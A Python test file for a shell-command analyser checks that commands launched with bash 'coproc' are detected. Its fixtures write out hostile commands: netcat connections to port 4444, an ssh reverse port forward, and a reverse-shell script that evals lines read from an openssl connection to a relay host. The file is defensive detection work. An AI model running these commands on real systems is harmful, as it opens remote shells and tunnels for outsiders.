"""``coproc`` runs a command like any other (held-out set 5): what follows it was not
analysed at all, so ``coproc nc h p`` or ``coproc ssh -R`` passed unjudged, and a
network client whose output the shell evals was a reverse shell nothing named."""

from __future__ import annotations

import pytest

from bastion.analysis import analyze_command


@pytest.mark.parametrize("command,name,feature", [
    ("coproc nc 203.0.113.5 4444", "nc", "nc_connect"),
    ("coproc { nc 203.0.113.5 4444; }", "nc", "nc_connect"),
    ("coproc T { ssh -N -R 8022:localhost:22 x@203.0.113.4; }", "ssh", "ssh_forward_remote"),
])
def test_the_coprocess_command_is_analysed(command: str, name: str, feature: str) -> None:
    fields = analyze_command(command)
    assert name in fields["cmd.names"] and feature in fields["cmd.features"], fields


def test_a_network_coprocess_read_back_into_eval_is_remote_commands() -> None:
    script = ('coproc O { openssl s_client -quiet -connect relay.allowed.lab.test:443 2>/dev/null; }\n'
              'printf "GET / HTTP/1.0\\r\\n\\r\\n" >&${O[1]}\n'
              'while IFS= read -r l <&${O[0]}; do eval "${l%% *}" >&${O[1]} 2>&1; done\n')
    assert "coproc_remote_commands" in analyze_command(script)["cmd.features"]


def test_honest_coprocesses_are_not() -> None:
    for command in ("coproc python3 -m http.server 8000; sleep 1; curl -s http://127.0.0.1:8000/",
                    "coproc nc 127.0.0.1 8000; echo ping >&${COPROC[1]}; read -r r <&${COPROC[0]}",
                    "coproc { sleep 5; }; eval \"$(ssh-agent -s)\""):
        assert "coproc_remote_commands" not in analyze_command(command)["cmd.features"], command
